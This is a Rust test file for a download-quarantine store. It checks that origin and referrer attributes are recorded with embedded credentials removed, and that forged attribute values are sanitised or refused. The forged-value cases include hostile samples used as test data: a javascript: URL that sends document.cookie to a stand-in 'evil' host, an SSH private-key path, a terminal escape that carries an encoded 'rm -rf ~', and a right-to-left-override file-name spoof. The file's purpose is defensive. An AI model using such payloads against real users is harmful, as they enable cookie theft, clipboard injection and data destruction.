//! Where a download came from (issue 17): read from the inbox file's
//! attributes at ingest, kept in the journal as the file's claim, written
//! into the audit log and back onto the released file; and what a profile
//! that forges those attributes gets for it.

mod store_support;

use std::path::{Path, PathBuf};

use rustix::fs::XattrFlags;
use store_support::*;
use zion_quarantine::origin::{
    MAX_URL_BYTES, ORIGIN_XATTR, PROVENANCE_XATTR, REFERRER_XATTR, SOURCE_XATTR,
};
use zion_quarantine::{DecidedBy, IngestOutcome, Item, Provenance, Store, Verdict};
use zion_storage::Destination;

fn set_attr(path: &Path, name: &str, value: &[u8]) -> rustix::io::Result<()> {
    rustix::fs::setxattr(path, name, value, XattrFlags::empty())
}

fn attr(path: &Path, name: &str) -> Option<String> {
    let mut buf = vec![0u8; 65536];
    match rustix::fs::getxattr(path, name, &mut buf[..]) {
        Ok(n) => Some(String::from_utf8(buf[..n].to_vec()).expect("a UTF-8 attribute")),
        Err(rustix::io::Errno::NODATA) => None,
        Err(e) => panic!("reading {name} of {}: {e}", path.display()),
    }
}

fn ingested(store: &Store, name: &str) -> Item {
    match store.ingest(SOURCE, name.as_ref()).expect("ingest") {
        IngestOutcome::Stored(item) => *item,
        other => panic!("{name}: expected Stored, got {other:?}"),
    }
}

fn clean(store: &Store, item: &Item) {
    store.begin_scan(item.id).expect("scan");
    store.finish_scan(item.id, Verdict::Clean).expect("clean");
}

fn released_path(item: &Item) -> PathBuf {
    match &item.state {
        zion_quarantine::State::Released { path } => path.clone(),
        other => panic!("not released: {other:?}"),
    }
}

#[test]
fn a_downloads_url_reaches_the_journal_the_audit_log_and_the_released_file() {
    let env = Env::new();
    let store = env.open();
    let path = env.put("report.pdf", &content(1, 50_000));
    set_attr(
        &path,
        ORIGIN_XATTR,
        b"https://alice:s3cret@files.example.org/q3/report.pdf?dl=1",
    )
    .expect("set origin");
    set_attr(&path, REFERRER_XATTR, b"https://example.org/reports").expect("set referrer");

    let item = ingested(&store, "report.pdf");
    let origin = item.origin.clone().expect("an origin");
    assert_eq!(
        origin.url.as_deref(),
        Some("https://files.example.org/q3/report.pdf?dl=1"),
        "the credentials are not kept"
    );
    assert_eq!(
        origin.referrer.as_deref(),
        Some("https://example.org/reports")
    );
    assert_eq!(origin.provenance, Provenance::File);
    assert_eq!(origin.note, None);

    // It is in the journal, not only in memory.
    drop(store);
    let store = env.open();
    assert_eq!(store.get(item.id).expect("get").origin, Some(origin));

    clean(&store, &item);
    let done = store
        .release(item.id, &Destination::Shared, DecidedBy::User, false)
        .expect("release");
    let released = released_path(&done);
    assert_eq!(
        attr(&released, ORIGIN_XATTR).as_deref(),
        Some("https://files.example.org/q3/report.pdf?dl=1")
    );
    assert_eq!(
        attr(&released, REFERRER_XATTR).as_deref(),
        Some("https://example.org/reports")
    );
    assert_eq!(
        attr(&released, SOURCE_XATTR).as_deref(),
        Some("sandbox:work/1")
    );
    assert_eq!(attr(&released, PROVENANCE_XATTR).as_deref(), Some("file"));

    let log = std::fs::read_to_string(&env.audit_path).expect("audit log");
    let entry: serde_json::Value =
        serde_json::from_str(log.lines().last().expect("an entry")).expect("json");
    assert_eq!(
        entry["origin_url"],
        "https://files.example.org/q3/report.pdf?dl=1"
    );
    assert_eq!(entry["origin_referrer"], "https://example.org/reports");
    assert_eq!(entry["origin_provenance"], "file");
    assert!(!log.contains("s3cret"), "{log}");
    let report =
        zion_quarantine::audit::verify(&env.paths.journal, &env.audit_path).expect("verify");
    assert!(report.is_intact(), "{report:?}");
}

#[test]
fn items_sharing_one_object_each_carry_their_own_origin_when_released() {
    let env = Env::new();
    let store = env.open();
    let bytes = content(2, 80_000);
    let a = env.put("a.bin", &bytes);
    set_attr(&a, ORIGIN_XATTR, b"https://one.example.org/a.bin").expect("set");
    let first = ingested(&store, "a.bin");
    let b = env.put("b.bin", &bytes);
    set_attr(&b, ORIGIN_XATTR, b"https://two.example.org/b.bin").expect("set");
    let second = ingested(&store, "b.bin");
    let plain = env.put("c.bin", &bytes);
    assert_eq!(attr(&plain, ORIGIN_XATTR), None);
    let third = ingested(&store, "c.bin");
    assert_eq!(third.origin, None, "no attribute, no origin");
    for item in [&first, &second, &third] {
        clean(&store, item);
    }

    // The first two are copies (the object is still needed), the last a rename.
    let mut paths = Vec::new();
    for item in [&first, &second, &third] {
        let done = store
            .release(item.id, &Destination::Shared, DecidedBy::User, false)
            .expect("release");
        paths.push(released_path(&done));
    }
    assert_eq!(
        attr(&paths[0], ORIGIN_XATTR).as_deref(),
        Some("https://one.example.org/a.bin")
    );
    assert_eq!(
        attr(&paths[1], ORIGIN_XATTR).as_deref(),
        Some("https://two.example.org/b.bin")
    );
    assert_eq!(attr(&paths[2], ORIGIN_XATTR), None);
    assert_eq!(
        attr(&paths[2], SOURCE_XATTR).as_deref(),
        Some("sandbox:work/1")
    );
}

/// A tmpfs mounted over a folder, unmounted when dropped.
struct Tmpfs(PathBuf);

impl Drop for Tmpfs {
    fn drop(&mut self) {
        if let Err(e) = rustix::mount::unmount(&self.0, rustix::mount::UnmountFlags::DETACH) {
            eprintln!("could not unmount {}: {e}", self.0.display());
        }
    }
}

/// A file's name, its forged origin and referrer attributes, and the URL
/// and referrer expected on record.
type Forged = (
    &'static str,
    Vec<u8>,
    Option<Vec<u8>>,
    Option<&'static str>,
    Option<&'static str>,
);

/// A profile writes what it likes into its own file's attributes; tmpfs
/// takes values up to the kernel's 64 KiB limit (ext4 stops near 4 KiB).
#[test]
fn forged_attributes_are_recorded_safely_or_not_at_all_and_never_break_ingest() {
    let env = Env::new();
    let inbox = env.inbox();
    if let Err(e) = rustix::mount::mount(
        "tmpfs",
        &inbox,
        "tmpfs",
        rustix::mount::MountFlags::empty(),
        c"size=16m,mode=0700",
    ) {
        zion_tests::skip::lacking(&format!(
            "cannot mount a tmpfs for the inbox ({e}); this test needs root"
        ));
        return;
    }
    let _tmpfs = Tmpfs(inbox.clone());
    let store = env.open();

    let huge = {
        let mut v = b"https://example.org/".to_vec();
        v.resize(64 * 1024, b'a');
        v
    };
    let just_over = {
        let mut v = b"https://example.org/".to_vec();
        v.resize(MAX_URL_BYTES + 1, b'b');
        v
    };
    let cases: Vec<Forged> = vec![
        (
            "creds.bin",
            b"ftp://root:toor@10.0.0.1/x".to_vec(),
            Some(b"https://u:p@example.org/?q=1".to_vec()),
            Some("ftp://10.0.0.1/x"),
            Some("https://example.org/?q=1"),
        ),
        ("huge.bin", huge.clone(), Some(huge), None, None),
        ("just-over.bin", just_over, None, None, None),
        (
            "js.bin",
            b"javascript:fetch('//evil/'+document.cookie)".to_vec(),
            Some(b"file:///home/user/.ssh/id_ed25519".to_vec()),
            None,
            None,
        ),
        (
            "escapes.bin",
            b"https://example.org/\x1b]52;c;cm0gLXJmIH4=\x07\x1b[2J".to_vec(),
            Some(b"https://example.org/\x9b6n".to_vec()),
            None,
            None,
        ),
        (
            "not-utf8.bin",
            b"https://example.org/\xc0\xaf\xff".to_vec(),
            Some(b"https://example.org/ok".to_vec()),
            None,
            Some("https://example.org/ok"),
        ),
        (
            "rtl.bin",
            "https://example.org/\u{202e}fdp.exe".as_bytes().to_vec(),
            None,
            None,
            None,
        ),
    ];
    let mut ids = Vec::new();
    for (i, (name, origin, referrer, url, referrer_kept)) in cases.iter().enumerate() {
        let path = env.put(name, &content(10 + i as u64, 1000));
        // The kernel takes no value over 64 KiB: a "1 MB" attribute cannot exist.
        assert!(set_attr(&path, ORIGIN_XATTR, &vec![b'x'; 1 << 20]).is_err());
        set_attr(&path, ORIGIN_XATTR, origin).expect("forge the origin");
        if let Some(referrer) = referrer {
            set_attr(&path, REFERRER_XATTR, referrer).expect("forge the referrer");
        }
        let item = ingested(&store, name);
        ids.push(item.id);
        let got = item.origin.clone();
        let got_url = got.as_ref().and_then(|o| o.url.as_deref());
        let got_referrer = got.as_ref().and_then(|o| o.referrer.as_deref());
        assert_eq!(
            (got_url, got_referrer),
            (*url, *referrer_kept),
            "{name}: {got:?}"
        );
        let origin = got.unwrap_or_else(|| panic!("{name}: refusals are said"));
        assert_eq!(origin.provenance, Provenance::File, "{name}");
        if url.is_none() {
            let note = origin.note.as_deref().unwrap_or_default();
            assert!(
                note.starts_with("origin URL not recorded: "),
                "{name}: {note}"
            );
        }
        // Nothing the file wrote reaches the record but a sanitised URL.
        let record = format!("{origin:?}");
        for bad in [
            "\\u{1b}",
            "\\u{9b}",
            "\\u{7}",
            "toor",
            "javascript",
            "\\u{202e}",
            "aaaaaaaa",
        ] {
            assert!(!record.contains(bad), "{name}: {bad} in {record}");
        }
    }
    // Every forged file was taken, whole, and is still listed after a restart.
    drop(store);
    let store = env.open();
    for id in ids {
        let item = store.get(id).expect("get");
        assert!(item.sha256.is_some(), "{item:?}");
    }
    assert!(names(&inbox).is_empty(), "{:?}", names(&inbox));
}
